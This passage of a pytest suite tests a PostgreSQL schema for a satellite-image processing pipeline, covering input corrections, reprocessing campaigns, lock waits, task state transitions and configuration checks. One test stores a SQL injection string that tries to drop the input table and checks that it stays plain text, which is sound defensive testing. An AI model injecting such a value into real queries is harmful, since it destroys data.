        assert configured.execute("SELECT array_agg(member_path ORDER BY member_path) FROM hrwsi.multi_input_campaign_member"
                                  ).fetchone()[0] == ["/data/a.SAFE", "/data/b.SAFE"]
        new_input = correcting.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
        correcting.commit()
    finally:
        correcting.close()
    assert configured.execute("SELECT state FROM hrwsi.processing_task WHERE id = %s", (composite,)).fetchone()[0] \
        == "cancelled"
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.retry_task(%s)", (composite,))
    assert refused.value.diag.message_primary == (
        f"task {composite}, a composite of campaign {campaign}, was made from member /data/a.SAFE of input {old_input}, "
        f"which input {new_input} corrects: it is not retried")
    # (`hrwsi retry --routine composite --state cancelled` leaves it out, as refused: the list told it by creation times,
    # and stopped the command at it; migration 0107)
    assert configured.execute(sql_files.query("report_tasks_to_retry"),
                              {"routine": "composite", "state": "cancelled", "limit": 100}).fetchall() == []
    # A composite made after the correction reads the corrected input: it is retried.
    [(later,)] = configured.execute("SELECT campaign_id FROM hrwsi.reprocess(routine => 'composite', measured_from => %s, "
                                    "measured_to => %s, again => true)", (NOW - timedelta(days=3), NOW))
    recent = configured.execute("SELECT id FROM hrwsi.processing_task WHERE campaign_id = %s", (later,)).fetchone()[0]
    configured.execute("SELECT hrwsi.cancel_task(%s)", (recent,))
    assert configured.execute("SELECT hrwsi.retry_task(%s)", (recent,)).fetchone()[0].startswith(f"task {recent} ")


def test_a_correction_tells_a_campaigns_tasks_it_cancels_that_their_campaign_does_not_redo_them(configured):
    """Found by review: a campaign's task the correction cancelled read as a production task's, "input 57 replaces it"
    or "the group is made anew": the corrected input's task, and the new group, are production's, and the campaign
    does not reprocess them. Its reason says so, and what does."""
    old_input, group_task = _a_processed_group_of_the_input_itself(configured)
    old_task = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (old_input,)).fetchone()[0]
    _processed(configured, old_task)
    for routine in ("maja", "composite"):
        configured.execute("SELECT * FROM hrwsi.reprocess(routine => %s, measured_from => %s, measured_to => %s)",
                           (routine, NOW - timedelta(days=3), NOW))
    tasks = dict(configured.execute("SELECT routine, id FROM hrwsi.processing_task WHERE campaign_id IS NOT NULL"))
    campaigns = dict(configured.execute("SELECT routine, campaign_id FROM hrwsi.processing_task "
                                        "WHERE campaign_id IS NOT NULL"))
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    reasons = dict(configured.execute("SELECT routine, state_reason FROM hrwsi.processing_task WHERE id = ANY (%s)",
                                      (list(tasks.values()),)))
    assert reasons["maja"] == (
        f"its input {old_input} was corrected (input {new_input} replaces it): its production task runs the corrected "
        f"input, and campaign {campaigns['maja']} does not; `hrwsi reprocess` starts a campaign that does")
    assert reasons["composite"] == (
        f"a composite of campaign {campaigns['composite']} that read input {old_input} or a product down its chain, which "
        f"was corrected (input {new_input} replaces it): the campaign does not make it anew; `hrwsi reprocess` starts a "
        "campaign that does, once production has processed the corrected input")
    with pytest.raises(psycopg.errors.CheckViolation) as refused:  # (it said "the corrected input's task runs instead")
        configured.execute("SELECT hrwsi.retry_task(%s)", (tasks["maja"],))
    assert refused.value.diag.message_primary == (
        f"task {tasks['maja']}, of campaign {campaigns['maja']}, was made from input {old_input}, which input {new_input} "
        "corrects (its production task runs the corrected input, and the campaign does not: `hrwsi reprocess` starts a "
        "campaign that does): it is not retried")
    # (its hint said "the corrected input's task runs instead" after that message; migration 0107)
    assert refused.value.diag.message_hint == (
        "the campaign does not run the corrected input: `hrwsi reprocess` (again => true) starts a campaign that does, "
        "once production has processed it")


def test_a_campaigns_task_down_a_chain_a_correction_cancelled_is_told_its_campaign_does_not_redo_it(configured):
    """Found by review (migration 0107): the refusal's hint said "the corrected input's products chain anew and make
    this step's task", true of production's chain only: a campaign's chain is the campaign's, which does not redo it."""
    _chain(configured)
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    [(campaign,)] = configured.execute("SELECT campaign_id FROM hrwsi.reprocess(routine => 'maja', measured_from => %s, "
                                       "measured_to => %s)", (NOW - timedelta(days=2), NOW))
    campaign_maja = configured.execute("SELECT id FROM hrwsi.processing_task WHERE campaign_id = %s",
                                       (campaign,)).fetchone()[0]
    _processed(configured, campaign_maja)
    product = configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                                 "VALUES (%s, '/c/a.L2A', 'L2A', now()) RETURNING id", (campaign_maja,)).fetchone()[0]
    insert_input(configured, "/c/a.L2A", processing_condition="snow", source="chaining", product_id=product,
                 campaign_id=campaign)
    campaign_snow = configured.execute("SELECT t.id FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id "
                                       "WHERE i.product_id = %s", (product,)).fetchone()[0]
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    assert configured.execute("SELECT state FROM hrwsi.processing_task WHERE id = %s", (campaign_snow,)).fetchone()[0] \
        == "cancelled"
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.retry_task(%s)", (campaign_snow,))
    assert refused.value.diag.message_primary == (
        f"task {campaign_snow} was made down a chain from the products of input {old_input}, which input {new_input} "
        "corrects: it is not retried")
    assert refused.value.diag.message_hint == (
        "the campaign does not redo it: `hrwsi reprocess` (again => true) starts a campaign that does, once production "
        "has processed the corrected input")


def _a_campaign_composite_with_a_late_member(db):
    """Two scenes of one tile and day; the group made from the second's product alone (processed), the first's product
    arriving after: a campaign's composite of the group reads both. (the first's input, the campaign's task)"""
    _daily_group(db, "L2A")
    insert_input(db, "/data/a.SAFE")
    insert_input(db, "/data/b.SAFE")
    tasks = dict(db.execute("SELECT i.input_path, t.id FROM hrwsi.processing_task t "
                            "JOIN hrwsi.input i ON i.id = t.input_id").fetchall())
    _processed(db, tasks["/data/b.SAFE"])
    db.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) VALUES (%s, '/p/b.L2A', 'L2A', now())",
               (tasks["/data/b.SAFE"],))
    db.execute("UPDATE hrwsi.multi_input_rule SET wait_for_open_tasks = false")
    assert _make_groups(db)[0] == 1
    _processed(db, db.execute("SELECT max(id) FROM hrwsi.processing_task").fetchone()[0])
    _processed(db, tasks["/data/a.SAFE"])
    db.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) VALUES (%s, '/p/a.L2A', 'L2A', now())",
               (tasks["/data/a.SAFE"],))
    db.execute("SELECT * FROM hrwsi.reprocess(routine => 'composite', measured_from => %s, measured_to => %s)",
               (NOW - timedelta(days=3), NOW))
    campaign_task = db.execute("SELECT id FROM hrwsi.processing_task WHERE campaign_id IS NOT NULL").fetchone()[0]
    members = db.execute("SELECT array_agg(member_path ORDER BY member_path) FROM hrwsi.multi_input_campaign_member "
                         "WHERE task_id = %s", (campaign_task,)).fetchone()[0]
    assert members == ["/p/a.L2A", "/p/b.L2A"]
    old_input = db.execute("SELECT input_id FROM hrwsi.processing_task WHERE id = %s", (tasks["/data/a.SAFE"],))
    return old_input.fetchone()[0], campaign_task


def test_a_campaigns_composite_a_correction_cancelled_is_not_retried_and_says_why(configured):
    """Found by review (migration 0102): the correction cancelled a campaign's composite that read a product of the
    old version, and `hrwsi retry` ran it again, reading that product: it is refused, saying which member and which
    correction, and what makes the composite anew."""
    old_input, campaign_task = _a_campaign_composite_with_a_late_member(configured)
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    campaign, state = configured.execute("SELECT campaign_id, state FROM hrwsi.processing_task WHERE id = %s",
                                         (campaign_task,)).fetchone()
    assert state == "cancelled"
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.retry_task(%s)", (campaign_task,))
    assert refused.value.diag.message_primary == (
        f"task {campaign_task}, a composite of campaign {campaign}, was made from member /p/a.L2A of input {old_input}, "
        f"which input {new_input} corrects: it is not retried")
    assert "`hrwsi reprocess`" in refused.value.diag.message_hint
    # (`hrwsi retry --routine composite --state cancelled` leaves it out, as refused)
    listed = configured.execute(sql_files.query("report_tasks_to_retry"),
                                {"routine": "composite", "state": "cancelled", "limit": 100})
    assert listed.fetchall() == []


def test_a_campaign_started_while_an_input_is_corrected_waits_and_its_composite_reads_no_old_member(configured,
                                                                                                   database_url):
    """Found by review (migration 0102): hrwsi.reprocess took no lock of a correction: a campaign started while one ran
    made its composite from the members a group had then, the old version's product among them, and the correction,
    which had not seen that task, did not cancel it. The campaign waits for the correction, as chaining does."""
    old_input, _ = _a_campaign_composite_with_a_late_member(configured)
    configured.execute("DELETE FROM hrwsi.multi_input_campaign_member")
    configured.execute("DELETE FROM hrwsi.processing_task WHERE campaign_id IS NOT NULL")
    correcting = psycopg.connect(database_url)
    starting = psycopg.connect(database_url, autocommit=True)
    outcome = {}

    def start():
        outcome["campaign"] = starting.execute(
            "SELECT campaign_id FROM hrwsi.reprocess(routine => 'composite', measured_from => %s, measured_to => %s, "
            "again => true)", (NOW - timedelta(days=3), NOW)).fetchone()[0]

    try:
        correcting.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,))  # (not committed yet)
        pid = starting.info.backend_pid
        racer = threading.Thread(target=start)
        racer.start()
        waited = False
        for _ in range(200):  # until the campaign waits for a lock, or ends
            waited = configured.execute("SELECT EXISTS (SELECT 1 FROM pg_locks WHERE pid = %s AND NOT granted)",
                                        (pid,)).fetchone()[0]
            if waited or not racer.is_alive():
                break
            racer.join(0.02)
        correcting.commit()
        racer.join(10)
    finally:
        correcting.close()
        starting.close()
    read = configured.execute("SELECT c.member_path, t.state FROM hrwsi.multi_input_campaign_member c "
                              "JOIN hrwsi.processing_task t ON t.id = c.task_id ORDER BY 1").fetchall()
    assert ("/p/a.L2A", "pending") not in read, read
    assert waited, "the campaign waited for the correction under way"
    assert "campaign" in outcome


def _after_a_correction_it_waited_for(db, database_url, old_input, isolation, call):
    """`call` in a transaction of `isolation` whose snapshot was taken (BEGIN; SELECT 1) before the correction of
    `old_input` committed, which it waits for: what it returned, or the error it raised; and whether it waited."""
    correcting = psycopg.connect(database_url)
    calling = psycopg.connect(database_url, autocommit=True)
    outcome = {}

    def run():
        try:
            with calling.transaction():
                outcome["returned"] = calling.execute(call[0], call[1]).fetchall()
        except psycopg.Error as error:
            outcome["error"] = error

    try:
        correcting.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,))  # (not committed yet)
        calling.execute(f"SET default_transaction_isolation = '{isolation}'")
        pid = calling.info.backend_pid
        racer = threading.Thread(target=run)
        racer.start()
        waited = False
        for _ in range(200):  # until the call waits for the correction's lock, or ends
            waited = db.execute("SELECT EXISTS (SELECT 1 FROM pg_locks WHERE pid = %s AND NOT granted)",
                                (pid,)).fetchone()[0]
            if waited or not racer.is_alive():
                break
            racer.join(0.02)
        correcting.commit()
        racer.join(10)
    finally:
        correcting.close()
        calling.close()
    assert waited, "it waited for the correction under way"
    return outcome


@pytest.mark.parametrize("isolation", ["repeatable read", "serializable"])
def test_a_campaign_started_in_a_stricter_transaction_while_an_input_is_corrected_is_refused_not_made_of_the_old_one(
        configured, database_url, isolation):
    """Found by review: in a REPEATABLE READ (or SERIALIZABLE) transaction hrwsi.reprocess waited for the correction
    under way (migration 0102) but read what its snapshot, taken before, showed: a campaign's composite read the
    members its group had before the correction, the old version's product among them, not outdated yet, and ran
    from it. It is refused, saying why and what to do; in a new transaction of that isolation it starts."""
    old_input, _ = _a_campaign_composite_with_a_late_member(configured)
    configured.execute("DELETE FROM hrwsi.multi_input_campaign_member")
    configured.execute("DELETE FROM hrwsi.processing_task WHERE campaign_id IS NOT NULL")
    call = ("SELECT campaign_id FROM hrwsi.reprocess(routine => 'composite', measured_from => %s, measured_to => %s, "
            "again => true)", (NOW - timedelta(days=3), NOW))
    outcome = _after_a_correction_it_waited_for(configured, database_url, old_input, isolation, call)
    read = configured.execute("SELECT c.member_path, t.state FROM hrwsi.multi_input_campaign_member c "
                              "JOIN hrwsi.processing_task t ON t.id = c.task_id ORDER BY 1").fetchall()
    assert ("/p/a.L2A", "pending") not in read, f"a campaign's composite reads the old version's product: {read}"
    error = outcome.get("error")
    assert isinstance(error, psycopg.errors.SerializationFailure), outcome
    assert error.diag.message_primary == (
        "an input was corrected after this transaction's snapshot was taken: hrwsi.reprocess would read the inputs as "
        "they were before the correction, and is refused")
    assert "run it again in a new transaction" in error.diag.message_hint
    # The same call in a new transaction of that isolation: its snapshot sees the correction.
    with psycopg.connect(database_url) as again:
        again.execute(f"SET TRANSACTION ISOLATION LEVEL {isolation.upper()}")
        again.execute(call[0], call[1])
    assert configured.execute("SELECT array_agg(member_path) FROM hrwsi.multi_input_campaign_member").fetchone()[0] \
        == ["/p/b.L2A"]


def test_chaining_missed_products_in_a_repeatable_read_transaction_while_an_input_is_corrected_is_refused(
        configured, database_url):
    """Found by review: hrwsi.chain_missed_products in a REPEATABLE READ transaction waited for the correction under
    way but read its snapshot, taken before: the old version's products, not outdated yet, and chained them, starting
    the chain of the version the correction had replaced. It is refused, saying why and what to do."""
    _chain(configured)
    configured.execute("UPDATE hrwsi.processing_condition SET active = false WHERE name = 'snow'")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                       "VALUES (%s, '/p/a.L2A', 'L2A', now())", (old_task,))  # (chained while snow was inactive)
    configured.execute("UPDATE hrwsi.processing_condition SET active = true WHERE name = 'snow'")
    assert configured.execute("SELECT missed FROM hrwsi.chain_missed_products('snow', dry_run => true)").fetchone() == (1,)
    outcome = _after_a_correction_it_waited_for(configured, database_url, old_input, "repeatable read",
                                                ("SELECT chained FROM hrwsi.chain_missed_products('snow')", ()))
    assert configured.execute("SELECT count(*) FROM hrwsi.input WHERE processing_condition = 'snow'").fetchone()[0] == 0, \
        "the old version's product was chained"
    error = outcome.get("error")
    assert isinstance(error, psycopg.errors.SerializationFailure), outcome
    assert error.diag.message_primary == (
        "an input was corrected after this transaction's snapshot was taken: hrwsi.chain_missed_products would read "
        "the products as they were before the correction, and is refused")


def test_a_product_chained_while_its_input_is_corrected_is_waited_for_and_its_task_cancelled(configured, database_url):
    """Found by review: a product of the old input's task that the harvester was chaining when the input was
    corrected (its row locked) was skipped, not waited for: the chaining committed after, and the task it made
    from the old version stayed pending. The correction waits for the chaining under way (the lock the harvester
    takes first in its transaction) and cancels that task too."""
    _chain(configured)
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type) VALUES (%s, '/p/a.L2A', 'L2A')",
                       (old_task,))
    chaining = psycopg.connect(database_url)  # the harvester's transaction, as Harvester._chain runs it
    correcting = psycopg.connect(database_url, autocommit=True)
    outcome = {}

    def correct():
        outcome["new_input"] = correcting.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')",
                                                  (old_input,)).fetchone()[0]

    try:
        chaining.execute(sql_files.query("chaining_waits_for_corrections"))
        assert chaining.execute(sql_files.query("chain_products").replace("$1", "100")).fetchone() == (1, 1)
        pid = correcting.info.backend_pid
        racer = threading.Thread(target=correct)
        racer.start()
        waited = False
        for _ in range(200):  # until the correction waits for a lock, or ends
            waited = configured.execute("SELECT EXISTS (SELECT 1 FROM pg_locks WHERE pid = %s AND NOT granted)",
                                        (pid,)).fetchone()[0]
            if waited or not racer.is_alive():
                break
            racer.join(0.02)
        chaining.commit()
        racer.join(10)
    finally:
        chaining.close()
        correcting.close()
    snow = configured.execute("SELECT t.id, t.state FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id "
                              "WHERE i.input_path = '/p/a.L2A'").fetchone()
    assert snow[1] == "cancelled", f"task {snow[0]}, made from the old version's product, is {snow[1]}"
    assert waited, "the correction waited for the chaining under way"
    assert "new_input" in outcome


def test_a_condition_made_active_after_a_correction_is_never_chained_the_old_versions_products(configured):
    """Found by review: hrwsi.chain_missed_products chained to a condition inactive at the correction, and made
    active after it, the old version's products (chained meanwhile, or marked chained by the correction), and
    started the old version's chain again."""
    _chain(configured)
    configured.execute("UPDATE hrwsi.processing_condition SET active = false WHERE name = 'snow'")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) VALUES "
                       "(%s, '/p/a.L2A', 'L2A', now())", (old_task,))
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type) VALUES (%s, '/p/b.L2A', 'L2A')", (old_task,))
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    configured.execute("UPDATE hrwsi.processing_condition SET active = true WHERE name = 'snow'")
    assert configured.execute("SELECT chained, missed FROM hrwsi.chain_missed_products('snow')").fetchone() == (0, 0)
    assert configured.execute("SELECT count(*) FROM hrwsi.input WHERE processing_condition = 'snow'").fetchone()[0] == 0
    assert configured.execute("SELECT array_agg(DISTINCT outdated_by) FROM hrwsi.product").fetchone()[0] == [new_input]


def test_an_input_is_not_corrected_while_a_task_made_down_a_chain_from_it_runs_and_says_which(configured):
    _chain(configured)
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    snow = _made(configured, old_task, "/p/a.L2A", "L2A", "snow")
    configured.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now(), "
                       "attempts = 1 WHERE id = %s", (snow,))
    with pytest.raises(psycopg.errors.ObjectInUse) as refused:
        configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,))
    assert str(refused.value.diag.message_primary) == (
        f"input {old_input} cannot be corrected now: task {snow} (routine snow) made from it down a chain, from its "
        "products, is dispatched")
    assert f"cancel it (`hrwsi cancel {snow}`)" in refused.value.diag.message_hint
    assert configured.execute("SELECT state FROM hrwsi.processing_task WHERE id = %s", (snow,)).fetchone()[0] == "dispatched"


def test_a_campaigns_input_is_refused_in_one_line_saying_what_to_do_instead(configured):
    configured.execute("INSERT INTO hrwsi.campaign (id, routine, measured_from, measured_to) OVERRIDING SYSTEM VALUE "
                       "VALUES (7, 'maja', now() - interval '9 days', now())")
    insert_input(configured, campaign_id=7)
    [input_id] = configured.execute("SELECT id FROM hrwsi.input").fetchone()
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (input_id,))
    assert str(refused.value.diag.message_primary) == (
        f"input {input_id} is reprocessing campaign 7's, not corrected itself: correct the production input at the "
        "start of its chain (`hrwsi lineage /data/a.SAFE` shows it), which cancels the campaign's tasks made from it, "
        "then reprocess it again (`hrwsi reprocess`)")


@pytest.mark.parametrize("kind", ["campaign", "multi_input", "chained path"])
def test_a_correction_makes_no_input_a_data_engineer_may_not_insert(configured, kind):
    """Found by review: correct_input runs as its owner and copied source, product_id and campaign_id, which the
    column grants keep data engineers from setting: a campaign's input made a new campaign task, a group's copy
    had no members, and a chained input given another path claimed a product it does not read."""
    if kind == "campaign":
        configured.execute("INSERT INTO hrwsi.campaign (id, routine, measured_from, measured_to) OVERRIDING SYSTEM VALUE "
                           "VALUES (7, 'maja', now() - interval '9 days', now())")
        insert_input(configured, campaign_id=7)
        correction, said = "tile => '31TCH'", "is reprocessing campaign 7's"
    elif kind == "multi_input":
        insert_input(configured, "multi_input/l1c/32TPR/2026-12-05", source="multi_input")
        correction, said = "tile => '31TCH'", "is a multi-input group"
    else:
        configured.execute("INSERT INTO hrwsi.product (id, task_id, path, product_type) OVERRIDING SYSTEM VALUE "
                           "VALUES (5, NULL, '/data/p.SAFE', 'L1C')")
        insert_input(configured, "/data/p.SAFE", source="chaining", product_id=5)
        correction, said = "input_path => '/data/other.SAFE'", "was chained from product 5"
    [input_id] = configured.execute("SELECT id FROM hrwsi.input").fetchone()
    with pytest.raises(psycopg.errors.CheckViolation, match=said):
        configured.execute(f"SELECT hrwsi.correct_input(%s, {correction})", (input_id,))
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 1


def test_an_old_input_whose_path_is_now_refused_can_still_be_corrected(configured):
    """Found by review: the path rule kept NOT VALID for old rows still checked the UPDATE that marks the old input
    superseded, so an input with a no-break space in its path could not be corrected, even to a clean path."""
    name = "input_path_has_no_control_or_invisible_characters"
    definition = configured.execute("SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conname = %s",
                                    (name,)).fetchone()[0]
    configured.execute(f"ALTER TABLE hrwsi.input DROP CONSTRAINT {name}")  # (an input from before migration 0083)
    insert_input(configured, "/data/a\u00a0b.SAFE")
    configured.execute(f"ALTER TABLE hrwsi.input ADD CONSTRAINT {name} {definition} NOT VALID")
    [old_input] = configured.execute("SELECT id FROM hrwsi.input").fetchone()
    with pytest.raises(psycopg.errors.CheckViolation, match=name):  # (the corrected input keeps no such path)
        configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (old_input,))
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, input_path => '/data/a b.SAFE')",
                                   (old_input,)).fetchone()[0]
    assert configured.execute("SELECT superseded_by FROM hrwsi.input WHERE id = %s", (old_input,)).fetchone() == \
        (new_input,)


SCENE_PATHS = [
    "/a/X.SAFE/.", "/a/X.SAFE/./", "/a/X.SAFE/./.", "/a/X.SAFE//", "/a//X.SAFE", "//a/X.zip", "/a/./X.SAFE", "/a/X.SAFE/",
    "/", "/.", "//", "", ".", "./", "X.SAFE", "./X.SAFE", "/a/.hidden", "/a/...", "/a/b/..", "/a/.zip", "/a/.zip/.",
    "/a/b.c.SAFE.zip", "/a/b.TIF/.//./", "/a/ b /.", "/a/Été.SAFE/.",
    # (Python's IGNORECASE folded these non-ASCII letters, SQL does not: found by review)
    "/x/A.\u017fAFE", "/x/a.z\u0131p", "/x/a.T\u0130F", "/x/a.\u212aSAFE"]


@pytest.mark.parametrize("path", SCENE_PATHS)
def test_scene_id_of_agrees_with_the_harvester_on_dot_and_empty_segments(configured, path):
    """Found by exploratory testing: hrwsi.scene_id_of('/a/X.SAFE/.') gave '.', the harvester 'X': a path's `.`
    and empty segments name nothing (PurePosixPath), in SQL as in Python. (Empty in Python is NULL in SQL.)"""
    from hrwsi.harvest.product_names import scene_id_of
    assert configured.execute("SELECT hrwsi.scene_id_of(%s)", (path,)).fetchone()[0] == (scene_id_of(path) or None)


def test_duplicate_input_is_refused(configured):
    insert_input(configured, "/data/same")
    with pytest.raises(psycopg.errors.UniqueViolation, match="input_is_unique_per_condition_and_path"):
        insert_input(configured, "/data/same")


def test_sql_injection_text_is_stored_as_text(configured):
    evil = "/data/x'); DROP TABLE hrwsi.input; --"
    insert_input(configured, evil)
    assert configured.execute("SELECT input_path FROM hrwsi.input").fetchone()[0] == evil


@pytest.mark.parametrize(
    ("statement", "message"),
    [
        ("INSERT INTO hrwsi.flavour VALUES ('bad', 0, 100, 100)", "flavour_cpu_is_positive"),
        ("INSERT INTO hrwsi.flavour VALUES ('bad', 2, -1, 100)", "flavour_ram_mb_is_positive"),
        ("INSERT INTO hrwsi.worker (name, flavour) VALUES ('w9', 'ghost')", "worker_flavour_must_exist"),
        ("""INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command,
            input_product_type, output_product_type) VALUES ('r', -2, 100, 10, '1 min', ARRAY['x'], 'A', 'B')""",
         "routine_cpu_is_at_least_a_hundredth"),
        ("""INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command,
            input_product_type, output_product_type) VALUES ('r', 1, 100, 10, '0 s', ARRAY['x'], 'A', 'B')""",
         "routine_expected_duration_is_positive"),
        ("""INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration,
            input_product_type, output_product_type) VALUES ('r', 1, 100, 10, '1 min', 'A', 'B')""",
         "routine_has_an_image_or_a_command"),
        ("""INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command,
            input_product_type, output_product_type, max_attempts) VALUES ('r', 1, 100, 10, '1 min', ARRAY['x'],
            'A', 'B', 0)""", "routine_max_attempts_between_1_and_100"),
        ("INSERT INTO hrwsi.processing_condition (name, routine) VALUES ('c', 'ghost')",
         "condition_routine_must_exist"),
        # (less than Nomad's least disk: its jobs reserved 10 MB while the planner counted what is stored)
        ("UPDATE hrwsi.processing_routine SET storage_mb = 9", "routine_storage_mb_is_at_least_nomads_least_disk"),
        # (less than Nomad's least memory: every job of the routine was refused; the configuration file refuses both)
        ("UPDATE hrwsi.processing_routine SET ram_mb = 9", "routine_ram_mb_is_at_least_nomads_least_memory"),
        ("UPDATE hrwsi.processing_routine SET cpu = 0.009", "routine_cpu_is_at_least_a_hundredth"),
        ("UPDATE hrwsi.budget SET vm_max = 0", "budget_vm_max_is_positive"),
        ("INSERT INTO hrwsi.budget (id) VALUES (false)", "budget_has_a_single_row"),
    ],
)
def test_bad_configuration_is_refused(configured, statement, message):
    with pytest.raises(psycopg.errors.IntegrityError, match=message):
        configured.execute(statement)


def test_task_state_machine_refuses_a_jump(configured):
    insert_input(configured)
    with pytest.raises(psycopg.errors.CheckViolation, match="pending -> processed is not allowed") as error:
        configured.execute("UPDATE hrwsi.processing_task SET state = 'processed'")
    assert "a task may go to: blocked, cancelled, dispatched, on_hold, planned" in error.value.diag.message_hint


@pytest.mark.parametrize(("table", "catalogue", "constraint"), [
    ("processing_task", "task_state", "task_state_must_exist"),
    ("job", "job_state", "job_state_must_exist"),
])
def test_the_states_a_row_may_take_are_exactly_those_of_the_catalogue(db, table, catalogue, constraint):
    # A check, not a foreign key (migration 0019): this keeps its list and the catalogue equal.
    definition = db.execute("SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conname = %s AND conrelid = %s::regclass",
                            (constraint, f"hrwsi.{table}")).fetchone()[0]
    listed = set(re.findall(r"'([a-z_]+)'::text", definition))
    assert listed == {name for (name,) in db.execute(f"SELECT name FROM hrwsi.{catalogue}")}


@pytest.mark.parametrize(("rule", "states", "transitions"), [
    ("task_transition_is_allowed", "task_state", "task_transition"),
    ("job_transition_is_allowed", "job_state", "job_transition"),
])
def test_each_transition_rule_allows_exactly_the_transitions_of_its_catalogue(db, rule, states, transitions):
    # The triggers test an expression, not the catalogue (migration 0020): this keeps the two equal.
    differ = db.execute(sql.SQL("""
        SELECT a.name, b.name, hrwsi.{rule}(a.name, b.name) FROM hrwsi.{states} a, hrwsi.{states} b
        WHERE hrwsi.{rule}(a.name, b.name) IS DISTINCT FROM EXISTS (
            SELECT 1 FROM hrwsi.{transitions} t WHERE t.from_state = a.name AND t.to_state = b.name)""").format(
        rule=sql.Identifier(rule), states=sql.Identifier(states), transitions=sql.Identifier(transitions))).fetchall()
    assert differ == []


@pytest.mark.parametrize(("trigger", "table", "transitions"), [
    ("processing_task_enforce_transition", "processing_task", "task_transition"),
    ("job_enforce_transition", "job", "job_transition"),
])
def test_each_transition_triggers_condition_lists_exactly_the_transitions_of_its_catalogue(db, trigger, table,
                                                                                            transitions):
    # The conditions list the rules as one constant of "from>to" pairs (migration 0032): this keeps
    # each list equal to its catalogue. (A pair missing from a list would only call the function.)
    definition = db.execute("SELECT pg_get_triggerdef(oid) FROM pg_trigger WHERE tgname = %s AND tgrelid = %s::regclass",
                            (trigger, f"hrwsi.{table}")).fetchone()[0]
    (listed,) = re.findall(r"'\{([^}]*)\}'::text\[\]", definition)
    pairs = [tuple(pair.split(">")) for pair in listed.split(",")]
    assert len(pairs) == len(set(pairs))
    assert set(pairs) == set(db.execute(f"SELECT from_state, to_state FROM hrwsi.{transitions}").fetchall())
    if table == "processing_task":  # and the states in which the function sets finished_at
        (final,) = re.findall(r"WHEN \(new\.state = ANY \(ARRAY\[([^]]*)\]\)\) THEN now\(\)", definition)
        assert set(re.findall(r"'([a-z_]+)'::text", final)) == {
            name for (name,) in db.execute("SELECT name FROM hrwsi.task_state WHERE is_final")}


def test_a_task_is_finished_in_exactly_the_final_states_of_the_catalogue(db):
    assert db.execute("""SELECT name FROM hrwsi.task_state
                         WHERE hrwsi.task_state_is_final(name) IS DISTINCT FROM is_final""").fetchall() == []


def test_the_transition_triggers_check_each_row_without_reading_the_catalogue(configured):
    # One query of the catalogue per updated row was about 15 % of recording a batch (migration 0020).
    for n in range(20):
        insert_input(configured, path=f"/data/{n}.SAFE")
    configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                          SELECT id, 1, 'local', 'j' || id FROM hrwsi.processing_task""")
    with configured.transaction():
        assert configured.execute("UPDATE hrwsi.job SET state = 'running'").rowcount == 20
        assert configured.execute("UPDATE hrwsi.processing_task SET state = 'on_hold'").rowcount == 20
        reads = configured.execute("""
            SELECT relname, seq_scan + coalesce(idx_scan, 0) FROM pg_stat_xact_user_tables
            WHERE schemaname = 'hrwsi' AND relname IN ('task_state', 'task_transition', 'job_state', 'job_transition')
              AND seq_scan + coalesce(idx_scan, 0) > 0""").fetchall()
    assert reads == []
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task WHERE finished_at IS NULL").fetchone()[0] == 20
    configured.execute("UPDATE hrwsi.processing_task SET state = 'cancelled'")
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task WHERE finished_at IS NULL").fetchone()[0] == 0


